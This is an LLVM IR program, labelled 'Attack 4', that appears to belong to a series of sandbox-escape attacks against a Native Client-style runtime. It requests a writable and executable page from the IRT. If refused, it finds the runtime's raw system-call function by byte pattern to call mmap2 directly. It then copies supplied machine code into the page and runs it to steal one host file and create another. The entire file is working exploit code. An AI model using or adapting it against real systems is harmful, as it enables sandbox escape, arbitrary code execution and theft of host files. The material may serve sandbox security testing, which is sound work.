; Attack 4: a page both writable and executable from the IRT memory interface, machine
; code written into it and called: the code reads a host file and creates one.
; Refused by the IRT, it asks the kernel itself, through the runtime's raw system-call
; function found as attack 1 finds it.
; argv: [1] the machine code in hex (a function of the file to steal, the file to create
; and a buffer), [2] a host file to steal, [3] a host file to create, [4] the system-call
; function's first bytes in hex, [5] the number of mmap2.
@refused_msg = internal constant [45 x i8] c"attack 4: the IRT refused executable memory\0A\00"

define void @_start(i32 %info) {
entry:
  call void @init(i32 %info)
  %t = ptrtoint [12 x i8]* @mem to i32
  %f = call i32 @load32(i32 %t)
  %mmap = inttoptr i32 %f to i32 (i32, i32, i32, i32, i32, i64)*
  %slot = alloca i8, i32 4, align 4
  %s = ptrtoint i8* %slot to i32
  call void @store32(i32 %s, i32 0)
  ; PROT_READ|PROT_WRITE|PROT_EXEC, MAP_PRIVATE|MAP_ANONYMOUS
  %e = call i32 %mmap(i32 %s, i32 4096, i32 7, i32 34, i32 -1, i64 0)
  %ok = icmp eq i32 %e, 0
  br i1 %ok, label %irt, label %refused
irt:
  %page.irt = call i32 @load32(i32 %s)
  br label %copy.start
refused:
  %m = ptrtoint [45 x i8]* @refused_msg to i32
  call void @print(i32 %m)
  %pat = call i32 @arg(i32 4)
  %q = call i32 @query_addr()
  %sc.a = call i32 @find_code(i32 %q, i32 %pat)
  %sc = inttoptr i32 %sc.a to i32 (i32, i32, i32, i32, i32, i32, i32)*
  %s5 = call i32 @arg(i32 5)
  %nr.mmap = call i32 @parse(i32 %s5)
  %raw = call i32 %sc(i32 %nr.mmap, i32 0, i32 4096, i32 7, i32 34, i32 -1, i32 0)
  %low = icmp ult i32 %raw, 4096
  %high = icmp ugt i32 %raw, -4096
  %failed = or i1 %low, %high
  br i1 %failed, label %gone, label %copy.start
gone:
  call void @exit(i32 4)
  unreachable
copy.start:
  %page = phi i32 [ %page.irt, %irt ], [ %raw, %refused ]
  %hex = call i32 @arg(i32 1)
  %hexlen = call i32 @strlen(i32 %hex)
  %len = udiv i32 %hexlen, 2
  br label %copy
copy:
  %j = phi i32 [ 0, %copy.start ], [ %j1, %more ]
  %end = icmp eq i32 %j, %len
  br i1 %end, label %run, label %more
more:
  %h = mul i32 %j, 2
  %ph = add i32 %hex, %h
  %byte = call i32 @hexbyte(i32 %ph)
  %dst = add i32 %page, %j
  call void @store8(i32 %dst, i32 %byte)
  %j1 = add i32 %j, 1
  br label %copy
run:
  %code = inttoptr i32 %page to i32 (i32, i32, i32)*
  %secret = call i32 @arg(i32 2)
  %out = call i32 @arg(i32 3)
  %buf = alloca i8, i32 256, align 4
  %b = ptrtoint i8* %buf to i32
  %r = call i32 %code(i32 %secret, i32 %out, i32 %b)
  call void @exit(i32 0)
  unreachable
}
